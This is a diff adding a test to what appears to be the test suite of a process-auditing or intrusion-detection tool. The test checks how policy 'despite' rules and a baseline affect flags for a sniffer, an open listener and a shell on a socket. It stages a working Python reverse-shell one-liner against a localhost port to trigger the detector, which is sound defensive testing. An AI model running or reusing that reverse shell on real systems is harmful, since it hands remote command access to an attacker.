@@ -526,6 +526,33 @@ def test_policy():
         live.equal(text.count("src is the local end"), 1, "the hint about the rule that nothing matched")
 
 
+def test_what_a_policy_accepts():
+    """What is expected is accused all the same, unless the policy names the rule; a baseline names what it found."""
+    with Scene() as s:
+        sock, port = s.attacker()
+        sniffs = s.intruder(s.copy("/srv/own"), "packet")
+        opens = s.intruder("/srv/own", "listen", "0.0.0.0", 50505)
+        s.copy("/srv/shell", "/bin/bash")
+        shell = s.start("/usr/bin/python3", "-c", "import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\n"
+                        "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/srv/shell',['shell'])" % port)
+        s.accept(sock)
+        scene.wait_until("the shell", lambda: os.readlink("/proc/%d/exe" % shell.pid) == "/srv/shell")
+        found = ((sniffs["pid"], "sniffer"), (opens["pid"], "open-dynamic-listener"), (shell.pid, "shell-on-socket"))
+        for despite in ("", "despite " + ",".join(rule for _, rule in found)):
+            with open("/srv/policy", "w") as f:
+                f.writelines('expect "ours" exe %s %s\n' % (path, despite) for path in ("/srv/own", "/srv/shell"))
+            doc = audit(policy="/srv/policy")
+            for pid, rule in found:
+                expect(doc, pid, "explained" if despite else "suspicious", "policy-expect", rule)
+        baseline = live.run("baseline").stdout.decode()
+        with open("/srv/policy", "w") as f:
+            f.write(baseline)
+        doc = audit(policy="/srv/policy")
+        for pid, rule in found:
+            expect(doc, pid, "suspicious", "policy-expect", rule)
+            live.holds("# suspicious, unless you add: despite %s\n" % rule in baseline, baseline)
+
+
 def test_kernel_socket():
     with Scene():
         done = subprocess.run(["ip", "link", "add", "vx0", "type", "vxlan", "id", "7", "dstport", "4790",
